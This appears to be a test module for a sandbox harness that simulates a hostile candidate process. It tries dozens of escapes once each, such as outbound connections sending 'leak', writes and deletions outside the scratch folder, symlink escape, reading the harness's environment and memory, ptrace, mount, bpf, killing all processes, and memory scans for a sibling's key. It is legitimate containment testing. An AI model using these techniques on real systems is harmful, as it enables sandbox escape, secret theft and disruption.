"""What a hostile candidate might do, each tried once.

Run by ``guarded`` in a process of its own or in a fork of a zygote: under all of the system's layers, under the audit
hooks alone, or under nothing.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import re
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec

from harness.candidate.egress_hooks import EgressHooks
from harness.candidate.isolation import LAYERS, Layers, Policy, enter
from harness.candidate.protocol import receive_launch
from harness.candidate.zygote import Forks, prepare

libc = ctypes.CDLL(None, use_errno=True)
_OWN_MOUNTS, _PRIVATE = 0x00020000, 0x44000


def call(name: str, *arguments: Any) -> str:
    """A function of the C library, which no audit hook sees."""
    if getattr(libc, name)(*arguments) == 0:
        return "done"
    raise OSError(ctypes.get_errno(), name)


def number(value: int, *arguments: Any) -> str:
    if libc.syscall(value, *arguments) >= 0:
        return "done"
    raise OSError(ctypes.get_errno(), "syscall")


def connect(address: tuple[str, int], kind: int = socket.SOCK_STREAM) -> str:
    with socket.socket(socket.AF_INET, kind) as sock:
        sock.settimeout(3)
        sock.connect(address)
        sock.send(b"leak")
        return "done"


def child(code: str) -> str:
    done = subprocess.run([sys.executable, "-S", "-c", code], capture_output=True, timeout=60, check=False)
    if done.returncode == 0:
        return "done"
    raise OSError(done.stderr.decode()[-80:])


def forked(deed: Callable[[], str]) -> str:
    pid = os.fork()
    if pid == 0:
        try:
            deed()
        except OSError:
            os._exit(1)
        os._exit(0)
    if os.waitpid(pid, 0)[1] == 0:
        return "done"
    raise OSError("in the child")


def spawned(arguments: list[str]) -> str:
    pid = os.posix_spawn(arguments[0], arguments, {})
    if os.waitpid(pid, 0)[1] == 0:
        return "done"
    raise OSError("in the child")


def libc_connect(port: int) -> str:
    fd = libc.socket(2, 1, 0)
    address = b"\x02\x00" + port.to_bytes(2, "big") + socket.inet_aton("127.0.0.1") + bytes(8)
    return call("connect", fd, address, 16)


def symlinked(outside: Path, scratch: Path) -> str:
    (scratch / "link").symlink_to(outside / "through")
    (scratch / "link").write_text("x", encoding="ascii")
    return "done"


def segment() -> str:
    """Memory that is in no process's account."""
    if (made := libc.shmget(0, ctypes.c_size_t(1 << 20), 0o1600)) >= 0:
        libc.shmctl(made, 0, None)
        return "done"
    raise OSError(ctypes.get_errno(), "shmget")


def filled(folder: Path) -> str:
    """More on the disk than a candidate may keep."""
    try:
        for name in range(8):
            with (folder / f"fill{name}").open("wb", buffering=0) as file:
                for _ in range(64):
                    file.write(bytes(1 << 20))
    finally:
        for path in folder.glob("fill*"):
            path.unlink()
    return "done"


def echoed(port: int) -> str:
    with socket.create_connection(("localhost", port), timeout=60) as sock:
        sock.sendall(b"hello")
        return sock.recv(10).decode()


def own_folder(scratch: Path) -> str:
    (scratch / "a").write_text("mine", encoding="ascii")
    (scratch / "a").rename(scratch / "b")
    return (scratch / "b").read_text(encoding="ascii")


def threads() -> str:
    done: list[int] = []
    started = [threading.Thread(target=done.append, args=(index,)) for index in range(8)]
    for thread in started:
        thread.start()
    for thread in started:
        thread.join()
    return str(len(done))


def regain_root() -> str:
    with Path("/proc/self/status").open(encoding="ascii") as status:
        held = [line for line in status if line.startswith(("CapEff", "CapPrm", "CapBnd"))]
    if all(int(line.split()[1], 16) == 0 for line in held):
        raise OSError("no capability is left")
    return "done"


def others_files() -> str:
    """Files that are neither standard ones nor the socket to the harness."""
    found = {}
    for path in Path("/proc/self/fd").iterdir():
        with contextlib.suppress(FileNotFoundError):  # the one by which they are listed
            found[int(path.name)] = path.readlink()
    if len(others := {fd for fd in found if fd > 2 and not str(found[fd]).startswith("/proc/")}) <= 1:
        raise OSError(f"only {others}")
    return str(found)


def remembered(backwards: str) -> str:
    """Whether this process's memory holds a word; it is not spelled out here, or it would be."""
    wanted = re.compile(b"".join(b"[%c]" % letter for letter in reversed(backwards.encode())))
    with Path("/proc/self/maps").open(encoding="utf-8") as maps, Path("/proc/self/mem").open("rb", 0) as memory:
        for line in maps.readlines():
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if line.split()[1].startswith("rw") and end - start < 1 << 30:
                memory.seek(start)
                if wanted.search(memory.read(end - start)):
                    return "found"
    raise OSError("nowhere")


def attacks(facts: dict[str, Any]) -> dict[str, Callable[[], str]]:
    outside, scratch, port, other, pid = (facts[name] for name in ("outside", "scratch", "port", "other", "pid"))
    outside, scratch = Path(outside), Path(scratch)

    def kept(name: str) -> bytes:
        return bytes(outside / name)

    write = f"open({str(outside / 'made')!r}, 'w')"
    return {
        "tcp_elsewhere": lambda: connect(("198.51.100.1", 80)),
        "tcp_other_loopback_port": lambda: connect(("127.0.0.1", other)),
        "udp": lambda: connect(("198.51.100.1", 53), socket.SOCK_DGRAM),
        "dns": lambda: str(socket.getaddrinfo("example.com", 443)),
        "raw_socket": lambda: str(socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)),
        "packet_socket": lambda: str(socket.socket(17, socket.SOCK_RAW, 0)),
        "unix_socket": lambda: str(socket.socket(socket.AF_UNIX)),
        "vsock": lambda: str(socket.socket(40, socket.SOCK_STREAM)),
        "libc_connect": lambda: libc_connect(other),
        "subprocess_connects": lambda: child(f"import socket; socket.create_connection(('127.0.0.1', {other}), 3)"),
        "fork_connects": lambda: forked(lambda: connect(("127.0.0.1", other))),
        "posix_spawn_writes": lambda: spawned(["/bin/sh", "-c", f"echo x 2>/dev/null > {outside}/made"]),
        "subprocess_writes": lambda: child(write),
        "write_outside": lambda: str((outside / "made").write_text("x", encoding="ascii")),
        "truncate_outside": lambda: call("truncate", kept("truncate"), 0),
        "rename_outside": lambda: call("rename", kept("rename"), bytes(scratch / "kept")),
        "unlink_outside": lambda: call("unlink", kept("unlink")),
        "chmod_outside": lambda: call("chmod", kept("chmod"), 0o666),
        "chown_outside": lambda: call("chown", kept("chown"), os.getuid(), os.getgid()),
        "utimes_outside": lambda: call("utimes", kept("utimes"), None),
        "setxattr_outside": lambda: call("setxattr", kept("setxattr"), b"user.mark", b"x", 1, 0),
        "chmod_the_harness": lambda: call("chmod", bytes(Path(__file__)), 0o644),
        "fill_the_disk": lambda: filled(scratch),
        "file_in_memory": lambda: str(os.memfd_create("hidden")),
        "shared_segment": segment,
        "symlink_escape": lambda: symlinked(outside, scratch),
        "read_secret": lambda: (outside / "read").read_text(encoding="ascii"),
        "signal_the_harness": lambda: call("kill", pid, 0),
        "signal_everyone": lambda: call("kill", -1, 0),
        "read_its_environment": lambda: Path(f"/proc/{pid}/environ").read_text(encoding="utf-8"),
        "read_its_memory": lambda: str(os.open(f"/proc/{pid}/mem", os.O_RDWR)),
        "ptrace": lambda: call("ptrace", 16, pid, 0, 0),
        "unshare": lambda: call("unshare", 0x10000000),
        "mount": lambda: call("mount", b"none", b"/mnt", b"tmpfs", 0, None),
        "setns": lambda: call("setns", 0, 0),
        "io_uring": lambda: number(425, 1, bytes(120)),
        "chroot": lambda: call("chroot", b"/"),
        "bpf": lambda: number(321 if os.uname().machine == "x86_64" else 280, 0, bytes(64), 64),
        "keyctl": lambda: number(250 if os.uname().machine == "x86_64" else 219, 0, -3, 0),
        "regain_root": regain_root,
        "others_files": others_files,
        "key_of_a_sibling": lambda: remembered(facts["backwards"]),
        "datagram_pair": lambda: str(socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)),
        "allowed_place": lambda: echoed(port),
        "own_folder": lambda: own_folder(scratch),
        "threads": threads,
        "own_group": lambda: call("kill", 0, 9),
    }


def guard(layers: str, gate: int, policy: Policy) -> None:
    """Put on what the attacks are tried under."""
    with socket.socket(fileno=gate) as way_out:
        if layers == "system":
            enter(policy, way_out)
            return
    if libc.unshare(_OWN_MOUNTS) == 0:  # so that a mount that is not stopped is nobody else's
        libc.mount(None, b"/", None, _PRIVATE, None)
    if layers == "hooks":
        missing = Layers(holding=[], missing=dict.fromkeys(LAYERS, "left out"))
        EgressHooks(policy, missing, lambda told: None).install()


def main(gate: int, policy: Policy, facts: dict[str, Any]) -> None:
    guard(facts["layers"], gate, policy)
    signal.alarm(50)
    outcomes = {}
    for name, deed in attacks(facts).items():
        if name in facts["without"]:
            continue
        try:
            outcomes[name] = deed()
        except OSError as error:
            outcomes[name] = f"stopped: {error}"
    print(json.dumps(outcomes), flush=True)


def fork(fd: int, gate: int) -> None:
    """What a fork does here: attack, or find its own key."""
    launch = receive_launch(socket.socket(fileno=fd))
    os.environ.update(launch.environment)
    if "FACTS" in launch.environment:
        main(gate, launch.policy, json.loads(launch.environment["FACTS"]))
    else:
        print(remembered(launch.environment["KEY"][::-1]), flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "zygote":
        prepare()
        Forks(socket.socket(fileno=int(sys.argv[2])), fork).serve()
    else:
        main(int(sys.argv[1]), msgspec.json.decode(sys.argv[2], type=Policy), json.loads(sys.argv[3]))
